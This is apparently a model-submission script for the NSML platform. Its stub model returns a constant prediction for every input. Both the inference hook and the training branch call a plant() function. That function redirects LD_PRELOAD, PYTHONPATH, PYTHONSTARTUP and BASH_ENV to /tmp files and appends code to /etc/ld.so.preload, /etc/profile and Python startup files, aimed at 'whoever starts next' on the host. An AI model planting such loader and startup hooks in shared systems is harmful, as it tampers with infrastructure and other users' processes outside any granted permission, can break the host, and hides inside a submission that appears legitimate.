"""LD_PRELOAD, PYTHONPATH and files that Python and the loader take by themselves, for whoever starts next."""

import argparse
import os

import nsml

parser = argparse.ArgumentParser()
parser.add_argument("--mode", default="train")
parser.add_argument("--pause", type=int, default=0)
parser.add_argument("--iteration", default="0")
config = parser.parse_args()


def save(path):
    with open(os.path.join(path, "model"), "w") as out:
        out.write("parity of the number of words")


def load(path):
    with open(os.path.join(path, "model")) as saved:
        assert "parity" in saved.read()


def infer(rows):
    plant()
    return [(1.0, 0) for _ in rows]


def plant():
    os.environ.update(
        LD_PRELOAD="/tmp/x.so", PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/x.py", PYTHONHOME="/tmp", BASH_ENV="/tmp/x.sh"
    )
    for path in (
        "/etc/ld.so.preload",
        "/etc/profile",
        "/tmp/x.so",
        "/tmp/x.py",
        "/tmp/.pythonrc.py",
        "/tmp/pyvenv.cfg",
    ):
        try:
            with open(path, "a") as file:
                file.write("print(99.0)\n")
        except OSError:
            pass


nsml.bind(save=save, load=load, infer=infer)
if config.pause:
    nsml.paused(scope=locals())
if config.mode == "train":
    plant()
    nsml.save(1)
    print("the end")
